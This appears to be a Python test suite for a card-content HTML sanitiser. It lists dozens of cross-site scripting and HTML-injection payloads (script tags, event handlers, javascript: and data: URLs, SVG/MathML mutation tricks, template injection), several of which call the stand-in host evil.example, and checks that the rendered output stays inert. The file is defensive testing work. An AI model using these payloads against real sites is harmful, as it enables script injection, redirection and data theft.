# ruff: noqa: E501  (an attack is read best on one line)
"""What hostile cards try; none of it may reach a page.

Every case is judged on the tree that a browser's parser makes, not on text.
"""

from __future__ import annotations

from collections.abc import Iterator
from xml.etree.ElementTree import Element

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from generator.content.body import Body
from generator.content.names import names
from tests.content.conftest import Render

X = "alert(1)"
ATTACKS = {
    "script": f"<script>{X}</script>",
    "script in upper case": f"<SCRIPT SRC=//evil.example/x.js></SCRIPT><ScRiPt>{X}</sCrIpT>",
    "script in a paragraph": f"text <script>{X}</script> text",
    "script without an end": f"text <script>{X}",
    "script within script": f"<scr<script>ipt>{X}</scr</script>ipt>",
    "script after a slash": f"<script/x>{X}</script>",
    "script closing a comment": f"<!--><script>{X}</script>-->",
    "comment closed with a bang": f"<!-- --!><img src=x onerror={X}> -->",
    "conditional comment": f"<!--[if IE]><script>{X}</script><![endif]-->",
    "cdata": f"<![CDATA[<img src=x onerror={X}>]]>",
    "declaration": f'<!DOCTYPE html [<!ENTITY x "<img src=x onerror={X}>">]>',
    "instruction": f"<?xml version='1.0'?><?x <img src=x onerror={X}>?>",
    "handler": f'<img src="cat.png" onerror="{X}"><p onclick="{X}">a</p><b onmouseover={X}>b</b>',
    "handler after a slash": f"<img/src='cat.png'/onload='{X}'/>",
    "handler after an odd blank": f"<img src=cat.png\x0conload={X}>",
    "handler out of a title": f"![a](cat.png 'x\" onload=\"{X}')",
    "handler out of an alt": f'![x" onload="{X}](cat.png)',
    "handler out of a language": f'```x" onclick="{X}\ncode\n```',
    "handler out of an address": f'[a](https://a.example/"onclick="{X})',
    "handler out of a backtick": f"<img src=`cat.png`onerror={X}>",
    "javascript link": f"[a](javascript:{X})",
    "javascript in entities": f"[a](&#106;&#97;vascript&#58;{X}) <a href='&#x6A;avascript:{X}'>b</a>",
    "javascript with blanks": f"<a href=' \tjava\nscript:{X}'>a</a> <a href='\x01javascript:{X}'>b</a>",
    "javascript in upper case": f"<a href='JaVaScRiPt:{X}'>a</a>",
    "javascript reference": f"[a][b]\n\n[b]: javascript:{X}",
    "javascript autolink": f"<javascript:{X}> javascript://a.example/%0a{X}",
    "vbscript": "<a href='vbscript:msgbox(1)'>a</a>",
    "view-source": "<a href='view-source:https://a.example'>a</a> <a href='blob:https://a'>b</a>",
    "data link": "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data picture that is SVG": "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "data frame": f"<iframe src='data:text/html,<script>{X}</script>'></iframe>",
    "srcdoc": f"<iframe srcdoc='<script>{X}</script>'></iframe>",
    "frame of javascript": f"<iframe src='javascript:{X}'></iframe>",
    "object and embed": "<object data='x.swf'><param name=a></object><embed src='x.swf'>",
    "base": "<base href='https://evil.example/'>\n\n[a](cat.png)",
    "meta": "<meta http-equiv='refresh' content='0;url=https://evil.example'>",
    "link": "<link rel=stylesheet href='https://evil.example/x.css'>",
    "form": "<form action='https://evil.example'><input name=a><button formaction='x'>b</button></form>",
    "isindex": "<isindex action='javascript:alert(1)' type=image>",
    "template": f"<template><script>{X}</script></template>",
    "style element": "<style>@import 'https://evil.example/x.css'; body{display:none}</style>",
    "style attribute": "<p style='position:fixed;inset:0;background:url(https://evil.example)'>a</p>",
    "class": "<div class='scroll stage overlay'>a</div><a class='button'>b</a>",
    "id and name": "<a id='files' name='body'>a</a><p id='location'>b</p><img name='cookie' src=cat.png>",
    "target": "<a href='https://a.example' target='_top' ping='https://evil.example' download>a</a>",
    "srcset": "<img srcset='javascript:alert(1) 1x, https://evil.example/a.png 2x' src='cat.png'>",
    "picture": "<picture><source srcset='https://evil.example/a.png'><img src='cat.png'></picture>",
    "poster": "<video poster='https://evil.example/a.png' src='demo.mp4' autoplay></video>",
    "source": "<video><source src='javascript:alert(1)'><source onerror='alert(1)'></video>",
    "track": "<video src=demo.mp4><track src='https://evil.example/x.vtt'></video>",
    "background": "<table background='https://evil.example/a.png'><td background='x'>a</td></table>",
    "SVG handler": f"<svg onload={X}><circle /></svg>",
    "SVG script": f"<svg><script>{X}</script><a xlink:href='javascript:{X}'>x</a></svg>",
    "SVG without an end": f"<svg><animate onbegin={X} attributeName=x>",
    "SVG foreignObject": f"<svg><foreignObject><iframe onload={X}></foreignObject></svg>",
    "SVG style": f"<svg></p><style><a id='</style><img src=1 onerror={X}>'>",
    "SVG desc": f"<svg><desc><noscript>&lt;/noscript>&lt;img src=1 onerror={X}></noscript></desc></svg>",
    "MathML": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={X}&gt;'>",
    "MathML link": f"<math href='javascript:{X}'>click</math>",
    "MathML annotation": f"<math><annotation-xml encoding='text/html'><script>{X}</script></annotation-xml></math>",
    "form in MathML": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={X}>",
    "TeX with HTML": rf"$$\text{{<img src=x onerror={X}>}}$$ \\( \text{{</math><script>{X}</script>}} \\)",
    "TeX with a link": rf"$$\href{{javascript:{X}}}{{x}}$$ $\class{{overlay}}{{x}}$",
    "TeX in an attribute": f"<div title=\"\n\n$$\\text{{\" onclick=\"{X}}}$$\n\n\">",
    "code in an attribute": f"<div title=\"\n\n```python\n\" onclick=\"{X}\n```\n\n\">",
    "forged marks": "\ufdd0M0\ufdd1 &#xfdd0;C0&#xfdd1; <p class='\ufdd0stage'>a</p>\n\n    code",
    "noscript": f"<noscript><p title='</noscript><img src=x onerror={X}>'>",
    "textarea": f"<textarea><img title='</textarea><img src=x onerror={X}>'></textarea>",
    "title": f"<title><a title='</title><img src=x onerror={X}>'>",
    "xmp": f"<xmp><p title='</xmp><img src=x onerror={X}>'></xmp>",
    "plaintext": "<plaintext>\n\nthe rest",
    "select": f"<select><template><script>{X}</script></template><option><img src=x onerror={X}>",
    "table rearranged": f"<table><a href='javascript:{X}'><tr><script>{X}</script><td>a</table>",
    "closing the page": "</div></main></body></html><h1>mine</h1>",
    "frameset": "<frameset onload=alert(1)><frame src='javascript:alert(1)'></frameset>",
    "dialog and popover": "<dialog open>a</dialog><div popover id=x>b</div><button popovertarget=x>c</button>",
    "custom element": f"<x-y onclick={X} is='z'>a</x-y><slot name=a></slot>",
    "contenteditable": f"<p contenteditable autofocus tabindex=1 onfocus={X} accesskey=x>a</p>",
    "template language": "{{ config }} {% include 'x' %} {{ ''.__class__ }}",
    "null bytes": f"<scr\0ipt>{X}</scr\0ipt><img src='java\0script:{X}'>",
    "footnote": f"[^<img src=x onerror={X}>]\n\n[^<img src=x onerror={X}>]: a <script>{X}</script>",
    "details": f"<details open ontoggle={X}><summary>a</summary>b</details>",
    "marquee": f"<marquee onstart={X}>a</marquee><blink>b</blink>",
    "gallery": f"<Gallery onclick={X}><img src=cat.png onload={X}></Gallery>",
}  # fmt: skip
ELEMENTS = names(
    "a abbr b bdi bdo blockquote br caption cite code col colgroup dd del details dfn "
    "div dl dt em figcaption figure h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q "
    "rp rt ruby s samp section small span strong sub summary sup table tbody td tfoot "
    "th thead tr u ul var video wbr audio math mrow mi mn mo ms mtext mspace mfrac "
    "msqrt mroot mstyle msub msup msubsup mtable mtr mtd munder mover munderover "
    "mpadded mphantom menclose"
)
ATTRIBUTES = names(
    "href src srcset sizes alt title width height loading decoding referrerpolicy "
    "class id dir lang role tabindex aria-label rel data-load colspan rowspan start "
    "reversed value open controls preload playsinline display stretchy fence "
    "separator form lspace rspace displaystyle scriptlevel mathvariant minsize "
    "maxsize accent movablelimits linethickness columnalign rowspacing"
)
HREFS = ("https://", "http://", "mailto:", "#", "../", "index.html")


def elements(body: Body) -> Iterator[tuple[str, Element]]:
    """Every element that a browser would make of a body, with its name."""
    tree = html5lib.parseFragment(str(body.html), treebuilder="etree")
    for element in tree.iter():
        if isinstance(element.tag, str) and element.tag != "DOCUMENT_FRAGMENT":
            yield element.tag.rpartition("}")[2], element


def assert_inert(body: Body) -> None:
    """Nothing runs, frames, posts, overlays, loads from elsewhere, or takes a name of the page."""
    for name, element in elements(body):
        assert name in ELEMENTS, name
        assert set(element.keys()) <= ATTRIBUTES, element.attrib
        for key in ("href", "src"):
            assert element.get(key, "#").startswith(HREFS), element.attrib
        assert "//" not in element.get("src", ""), element.attrib
        assert element.get("id", "card-").startswith("card-")
        assert not {"stage", "overlay", "button"} & set(element.get("class", "").split())
        assert element.get("tabindex", "0") == "0"


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_an_attack_leaves_nothing_active(render: Render, attack: str) -> None:
    assert_inert(render(attack))
    assert_inert(render(f"<div>\n{attack}\n</div>\n\n- x {attack}\n\n| a |\n|---|\n| {attack} |\n"))


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_an_attack_does_not_swallow_what_follows(render: Render, attack: str) -> None:
    body = render(f"{attack}\n\n-->\n\n```\nx\n```\n\nThe end of the card.")
    assert "The end of the card." in str(body.html)


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS.keys())
def test_an_attack_does_not_break_the_page(render: Render, attack: str) -> None:
    parser = html5lib.HTMLParser(strict=False)
    html = "".join(f"<section>{part}</section>" for part in render(attack).html_parts)
    parser.parse(f"<!DOCTYPE html><html><head><title>x</title></head><body>{html}</body></html>")
    assert parser.errors == []


TAGS = st.sampled_from(
    ["<p>", "</p>", "<svg>", "</svg>", "<math>", "<mtext>", "<style>", "</style>", "<script>", "<a ",
     "href=", "javascript:", "'", '"', ">", "<", "<!--", "-->", "onload=x", "<table>", "<td>", "$$",
     "\\text{", "}", "`", "```", "\n\n", "\n", "<title>", "</title>", "<img src=", "cat.png", "class=",
     "<Gallery>", "<Gallery />", "</Gallery>", "[", "](", ")", "> ", "- ", "&lt;", "&#x", "<details>",
     "\ufdd0C0\ufdd1", "<pre>", "</pre>", "<h1>", "</h1>", "id=x"]
)  # fmt: skip


@given(st.lists(TAGS, max_size=25).map("".join))
@settings(deadline=None, max_examples=150)
def test_no_mixture_of_tags_is_active_or_badly_formed(render: Render, text: str) -> None:
    body = render(text)
    assert_inert(body)
    assert str(render(text).html) == str(body.html)
